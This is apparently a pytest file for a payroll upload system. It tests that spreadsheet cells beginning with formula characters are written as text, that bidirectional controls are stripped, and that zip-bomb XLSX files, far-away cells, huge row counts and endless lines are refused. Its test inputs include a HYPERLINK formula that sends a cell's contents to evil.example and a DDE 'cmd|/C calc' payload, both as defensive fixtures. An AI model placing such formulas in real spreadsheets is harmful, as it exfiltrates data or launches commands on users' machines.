"""The shared core: spreadsheet cells written as text, bidirectional controls stripped, and the one tabular reader's
limits (an inflating XLSX, a far-away cell, too many rows, an endless line, errors kept bounded), each refused with
an error naming the file while the test process's memory stays well under 200 MB. Pure: no database."""

from __future__ import annotations

import csv
import datetime as dt
import io
import resource
import time
import tracemalloc
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from xlsxkit import declare_smaller, inline, wage_rows, write_xlsx

from paritrana.contributions.wagefile import read_wage_file
from paritrana.core.limits import MIB, UploadLimits
from paritrana.core.spreadsheet import append_row, csv_writer, neutralise
from paritrana.core.tabular import FILE, Msg, Unreadable, read_rows
from paritrana.core.text import clean_text, strip_bidi

TODAY = dt.date(2025, 6, 15)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
MEMORY_BOUND = 200 * MIB


def rss() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024  # Linux: kilobytes


@contextmanager
def memory_watch() -> Iterator[dict[str, int]]:
    """The peak of Python allocations (tracemalloc) and the growth of the process's peak resident size."""
    seen: dict[str, int] = {}
    before = rss()
    tracemalloc.start()
    try:
        yield seen
    finally:
        seen["python_peak"] = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        seen["rss_growth"] = rss() - before


# --- cells written as text ------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [FORMULA, "+62 812", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"])
def test_a_formula_start_is_written_as_text(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Budi Santoso", "3374010101850003", "", -5, 0, 3.5, None, dt.date(2025, 1, 1)])
def test_other_cells_and_numbers_are_left_alone(value: Any) -> None:
    assert neutralise(value) == value


def test_csv_writer_cells_read_back_as_text() -> None:
    out = io.StringIO()
    writer = csv_writer(out, delimiter=";")
    writer.writerow([FORMULA, -5, "Budi"])
    writer.writerows([["@x", "=1+1"]])
    rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert rows == [["'" + FORMULA, "-5", "Budi"], ["'@x", "'=1+1"]]


def test_xlsx_cells_read_back_as_text(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    append_row(sheet, [FORMULA, -5, "+62"])
    book.save(tmp_path / "x.xlsx")
    cells = next(iter(openpyxl.load_workbook(tmp_path / "x.xlsx").active.iter_rows(values_only=False)))
    assert [c.data_type for c in cells] == ["s", "n", "s"]
    assert [c.value for c in cells] == ["'" + FORMULA, -5, "'+62"]


# --- bidirectional controls ------------------------------------------------------------------------------


def test_bidi_controls_are_stripped() -> None:
    controls = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    assert strip_bidi(f"Budi{controls}Santoso") == "BudiSantoso"
    assert clean_text("  \u202eSiti Aminah\u202c ") == "Siti Aminah"
    assert strip_bidi("Nur ‘Aini, محمد") == "Nur ‘Aini, محمد"  # letters of any script stay


# --- the reader's limits -------------------------------------------------------------------------------


def refusal(read: Callable[[], Any]) -> str:
    with pytest.raises(Unreadable) as caught:
        read()
    assert caught.value.error.field == FILE and caught.value.error.row is None
    return caught.value.error.template


def rows_of(source: Path | bytes, name: str, limits: UploadLimits) -> list[tuple[int, list[Any]]]:
    return list(read_rows(source, name, limits))


def test_an_inflating_xlsx_is_refused_early_with_bounded_memory(tmp_path: Path) -> None:
    # about 330 MB of sheet XML in a file of a few hundred kilobytes
    path = write_xlsx(tmp_path / "bomb.xlsx", (b"<row><c><v>1</v></c></row>" * 40_000 for _ in range(320)))
    assert path.stat().st_size < 3 * MIB
    started = time.perf_counter()
    with memory_watch() as seen:
        result = read_wage_file(path, "gaji.xlsx", today=TODAY)
    assert [(e.row, e.field, e.template) for e in result.errors] == [(None, FILE, Msg.UNZIPPED_TOO_LARGE)]
    assert result.fatal and result.rows == []
    assert "64 MB" in result.errors[0].message
    assert seen["python_peak"] < 20 * MIB and seen["rss_growth"] < MEMORY_BOUND
    assert time.perf_counter() - started < 10


def test_an_xlsx_declaring_less_than_it_holds_is_refused_while_inflating(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "liar.xlsx", (b"<row><c><v>1</v></c></row>" * 40_000 for _ in range(100)))
    declare_smaller(path, "xl/worksheets/sheet1.xml", 10_000)
    with memory_watch() as seen:
        template = refusal(lambda: rows_of(path, "liar.xlsx", UploadLimits()))
    assert template == Msg.UNREADABLE  # its checksum fails once the declared size is reached
    assert seen["rss_growth"] < MEMORY_BOUND


def test_actual_inflated_bytes_are_counted_against_the_limit(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "big.xlsx", wage_rows(30_000))  # about 5 MB of sheet XML
    assert rows_of(path, "big.xlsx", UploadLimits())[:2][1][1] == ["3374010101800002", "2025-03", 3500000]
    assert refusal(lambda: rows_of(path, "big.xlsx", UploadLimits(max_unzipped_bytes=2 * MIB))) == (
        Msg.UNZIPPED_TOO_LARGE
    )


def test_a_far_away_cell_is_refused_before_the_sheet_is_read(tmp_path: Path) -> None:
    # the workbook reader would allocate 200,000 × 702 cells at once (about 4.5 GB) and abort the process
    far = (inline("A1", "nik") + "</row>" + '<row r="200000"><c r="ZZ200000"><v>1</v></c>').encode()
    path = write_xlsx(tmp_path / "far.xlsx", [b'<row r="1">' + far + b"</row>"])
    with memory_watch() as seen:
        template = refusal(lambda: rows_of(path, "far.xlsx", UploadLimits()))
    assert template == Msg.RANGE_TOO_LARGE
    assert seen["rss_growth"] < MEMORY_BOUND


def test_rows_are_counted_while_streaming(tmp_path: Path) -> None:
    path = tmp_path / "many.csv"
    with path.open("w") as f:
        f.write("nik;period;wage\n")
        for i in range(1_000_000):  # about 30 MB
            f.write(f"33740101018{i % 100000:05d};2025-03;3500000\n")
    assert path.stat().st_size > 28 * MIB
    seen_rows = 0

    def count() -> None:
        nonlocal seen_rows
        for _ in read_rows(path, "many.csv", UploadLimits(max_rows=1_000)):
            seen_rows += 1

    started = time.perf_counter()
    with memory_watch() as seen:
        assert refusal(count) == Msg.TOO_MANY_ROWS
    assert seen_rows == 1_001 and time.perf_counter() - started < 2  # stopped at the limit, not at the end
    assert seen["python_peak"] < 5 * MIB
    result = read_wage_file(path, "many.csv", today=TODAY, limits=UploadLimits(max_rows=5_000))
    assert [(e.field, e.template, e.params) for e in result.errors] == [(FILE, Msg.TOO_MANY_ROWS, {"maximum": "5,000"})]


def test_an_endless_line_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "line.csv"
    path.write_text("nik,period,wage\n" + "1," * 2_000_000 + "\n")
    with memory_watch() as seen:
        assert refusal(lambda: rows_of(path, "line.csv", UploadLimits())) == Msg.LINE_TOO_LONG
    assert seen["python_peak"] < 20 * MIB


def test_errors_are_kept_bounded_and_counted(tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    path.write_text("nik;period;wage\n" + "".join(f"12345;2025-13;x{i}\n" for i in range(3_000)))
    result = read_wage_file(path, "bad.csv", today=TODAY, limits=UploadLimits(errors_shown=100))
    assert len(result.errors) == 101 and result.log.count == 9_000 and len(result.log.rows) == 3_000
    last = result.errors[-1]
    assert (last.row, last.field, last.template, last.params) == (None, FILE, Msg.MORE_ERRORS, {"count": "8900"})
    assert [e.row for e in result.errors[:3]] == [2, 2, 2]


def test_windows_1252_and_utf8_csv_still_read(tmp_path: Path) -> None:
    path = tmp_path / "w.csv"
    path.write_bytes("nik;nama\n3374010101850003;Andr\u00e9\n".encode("cp1252"))
    assert rows_of(path, "w.csv", UploadLimits())[1][1] == ["3374010101850003", "Andr\u00e9"]
    assert rows_of("\ufeffnik,nama\n1,B\u00fcdi\n".encode(), "w.csv", UploadLimits())[1][1] == ["1", "B\u00fcdi"]
    assert refusal(lambda: rows_of(b"nik\x00x", "w.csv", UploadLimits())) == Msg.UNREADABLE
    assert refusal(lambda: rows_of(b"%PDF", "w.pdf", UploadLimits())) == Msg.NOT_CSV_OR_XLSX


def test_a_number_of_thousands_of_digits_is_a_row_error_not_a_crash(tmp_path: Path) -> None:
    from paritrana.contributions.wagefile import Msg as WageMsg
    from paritrana.coverage.workforcefile import Msg as WorkforceMsg
    from paritrana.coverage.workforcefile import read_workforce_file

    digits = "9" * 5_000  # Python refuses to read an int of more than 4,300 digits
    path = tmp_path / "w.csv"
    path.write_text(f"nik;period;wage\n3374010101850003;2025-03;{digits}\n")
    result = read_wage_file(path, "w.csv", today=TODAY)
    assert [(e.row, e.field, e.template) for e in result.errors] == [(2, "wage", WageMsg.WAGE_TOO_LARGE)]
    figures = read_workforce_file(f"region_code;employed\n33;{digits}\n".encode(), "bps.csv", 2024)
    assert [(e.row, e.field, e.template) for e in figures.errors] == [(2, "employed", WorkforceMsg.EMPLOYED_TOO_LARGE)]
